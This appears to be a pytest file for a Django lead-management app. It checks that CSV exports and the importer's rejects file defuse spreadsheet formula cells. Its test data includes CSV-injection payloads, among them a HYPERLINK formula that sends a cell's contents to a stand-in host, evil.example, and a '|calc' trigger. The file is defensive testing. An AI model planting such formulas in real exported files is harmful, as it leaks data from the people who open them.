"""Every CSV the app writes defuses cells a spreadsheet would run as a formula.

The importer's rejects file echoes the lead's own row back, so a lead sent as
`=HYPERLINK(...)` must come out as text, not a live link, when the operator opens the file.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from clientsflow.csvfiles import csv_writer
from leads.services.importer import lead_import_csv

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "@SUM(1)",
    "+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "|calc",
    "%0A",
]


def _formula_like(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "|", "%")


def test_the_shared_writer_defuses_formula_cells_and_keeps_plain_ones(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv_writer(handle)
        writer.writerow(["cell"])
        for cell in DANGEROUS:
            writer.writerow([cell])
        writer.writerows([["Ada Lovelace"], ["-12.5"], [42], ["a=b"]])

    with path.open(newline="", encoding="utf-8") as handle:
        cells = [row[0] for row in csv.reader(handle)][1:]

    defused, plain = cells[: len(DANGEROUS)], cells[len(DANGEROUS) :]
    assert not any(_formula_like(cell) for cell in defused), defused
    # Defused, not dropped: the original text is still there after the leading quote.
    assert all(cell.startswith("'") for cell in defused)
    assert defused[0].startswith("'=HYPERLINK(")
    assert plain == ["Ada Lovelace", "-12.5", "42", "a=b"]


def test_the_rejects_file_does_not_copy_formula_cells_verbatim(tmp_path: Path) -> None:
    source = tmp_path / "leads.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Name", "Email", "Company"])
        for n, cell in enumerate(DANGEROUS):
            # No email and no phone: every row is rejected and echoed into the rejects file.
            writer.writerow([cell, "", f"Co {n}"])
    rejects = tmp_path / "rejects.csv"

    summary = lead_import_csv(path=source, rejects_path=rejects)

    assert summary.rejected == len(DANGEROUS)
    with rejects.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not any(_formula_like(cell) for cell in cells), cells
    assert [row[2] for row in rows[1:]] == ["'" + cell.replace("|", "\\|") for cell in DANGEROUS]
